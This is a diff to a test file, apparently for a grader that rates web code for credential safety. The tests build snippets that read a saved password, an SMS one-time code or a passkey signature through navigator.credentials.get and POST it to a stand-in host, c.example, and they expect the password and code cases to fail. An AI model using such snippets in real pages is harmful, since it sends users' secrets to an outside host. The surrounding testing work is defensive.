@@ -29,6 +29,7 @@ it('a saved password that the browser is asked for is a credential, a passkey’
   const ask = (asked: string, sent: string): string =>
     `navigator.credentials.get({ ${asked} }).then((c) => fetch('https://c.example/p', { method: 'POST', body: ${sent} }));`;
   expect(await graded({ content: ask('password: true', 'c.password') })).toBe('F');
+  expect(await graded({ content: ask("otp: { transport: ['sms'] }", 'c.code') })).toBe('F');
   expect(await graded({ content: ask('publicKey: options', 'c.response.signature') })).toMatch(/^A/);
 });
 
